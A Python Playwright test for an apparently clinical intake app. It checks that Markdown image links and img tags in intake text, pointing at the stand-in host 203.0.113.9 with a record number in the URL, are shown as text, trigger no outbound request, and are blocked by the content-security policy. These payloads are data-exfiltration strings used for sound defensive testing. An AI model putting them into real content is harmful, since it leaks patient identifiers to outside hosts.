"""Markdown in an intake cannot send data out: a real browser drafts, reviews and exports
an intake whose free text holds an image link carrying a record number, and no request
leaves 127.0.0.1.

Every request the page makes to any other host is caught at the network (Playwright
routing) and recorded; the test also checks the hostile text is on the page as text, that
the app sends its content-security policy with the page, and that the policy stops an
image put into the page directly (as a rendering slip would). Without the policy the app
itself fetches its page icon from fonts.gstatic.com, which this test also refuses.
"""

from __future__ import annotations

import json
import re
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from tests.conftest import INTAKES
from tests.test_browser import (
    ARTIFACTS,
    CHROMIUM,
    CHROMIUM_ARGS,
    PASSWORD,
    idle,
    nav,
    no_traceback,
    playwright_api,
    server,  # noqa: F401 - the fixture that starts `streamlit run app.py`
    sign_out,
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(600),
    pytest.mark.skipif(not CHROMIUM.exists(), reason="run `bash .ci/browser.sh` first"),
]
expect = playwright_api.expect

LEAK = "http://203.0.113.9/x.png?mrn=MRN-20417"
HOSTILE = f"![]({LEAK}) <img src=http://203.0.113.9/y.png?mrn=MRN-20417>"
LOCAL = {"127.0.0.1", "localhost"}


def _hostile_intake(tmp_path: Path) -> Path:
    data = json.loads((INTAKES / "gad_nurse.json").read_text(encoding="utf-8"))
    data["client"]["record_id"] = "MRN-20417"
    data["presenting_problems"][0]["summary"] += " " + HOSTILE
    data["presenting_problems"][0]["client_words"] = HOSTILE
    data["strengths"].append(HOSTILE)
    data["notes"] = HOSTILE
    path = tmp_path / "hostile-markdown.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.fixture
def watched(server: str) -> Any:  # noqa: F811
    """A page whose every request to another host is recorded and stopped at the network."""
    sent: list[str] = []
    attempted: list[str] = []

    def route(r: Any) -> None:
        if urlparse(r.request.url).hostname in LOCAL:
            r.continue_()
        else:
            sent.append(r.request.url)
            r.abort()

    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        context.route("**/*", route)
        pg = context.new_page()
        pg.on("request", lambda r: attempted.append(r.url))
        pg.set_default_timeout(30_000)
        pg.goto(server)
        try:
            yield pg, sent, attempted
        finally:
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            pg.screenshot(path=str(ARTIFACTS / "exfiltration-last.png"), full_page=True)
            context.close()
            browser.close()


def sign_in(page: Any, user: str) -> None:
    """Sign in and wait for the signed-in app, whichever page it opens on."""
    page.get_by_label("User name", exact=True).fill(user)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out").first).to_be_visible()
    idle(page)


def _shown_as_text(page: Any) -> None:
    """The hostile Markdown is on the page as the characters typed."""
    expect(page.get_by_text(re.compile(r"!\[\]\(http://203\.0\.113\.9")).first).to_be_attached()


def test_markdown_in_an_intake_fetches_nothing_from_elsewhere(
    watched: Any,
    server: str,  # noqa: F811
    tmp_path: Path,
) -> None:
    page, sent, attempted = watched
    with urllib.request.urlopen(server + "/") as r:
        policy = r.headers.get("content-security-policy") or ""
    assert "img-src 'self'" in policy, "the page is served without its content-security policy"

    sign_in(page, "ana")
    nav(page, "Intake")
    page.get_by_text("Upload an intake file").click()
    idle(page)
    page.locator("input[type='file']").first.set_input_files(str(_hostile_intake(tmp_path)))
    idle(page)
    page.get_by_role("button", name="Load this file into the form").click()
    idle(page)
    page.get_by_role("button", name="Check and use this intake").click()
    expect(page.get_by_text("This intake is ready for drafting.")).to_be_visible()

    nav(page, "Draft")
    page.get_by_text("Rank knowledge with the local index").click()  # no index build here
    idle(page)
    page.get_by_role("button", name="Draft the plan").click()
    expect(page.get_by_text("Draft ready. Review each suggestion")).to_be_visible(timeout=120_000)
    no_traceback(page)
    _shown_as_text(page)
    page.get_by_role("button", name="Submit for review").click()
    expect(page.get_by_text(re.compile(r"submitted to your supervisor"))).to_be_visible()
    sign_out(page)

    sign_in(page, "sam")
    nav(page, "Review")
    expect(page.get_by_role("combobox", name=re.compile(r"Submitted plans \(1\)"))).to_be_visible()
    _shown_as_text(page)
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_text(re.compile(r"Plan 1 approved"))).to_be_visible()

    nav(page, "Export")
    expect(page.get_by_role("heading", name="Client copy")).to_be_visible()
    idle(page)
    page.wait_for_timeout(1500)  # let any image the page holds start loading
    no_traceback(page)

    assert sent == [], f"requests left this machine: {sent}"
    assert not [u for u in attempted if "203.0.113.9" in u], "the page tried to load the image"

    # the second line: were some text ever to render as an image, the page's policy stops it
    page.evaluate(
        """() => { const i = document.createElement('img');
                   i.src = 'http://203.0.113.9/csp.png?mrn=MRN-20417';
                   document.body.appendChild(i); }"""
    )
    page.wait_for_timeout(1500)
    assert sent == [], f"the content-security policy let a request out: {sent}"
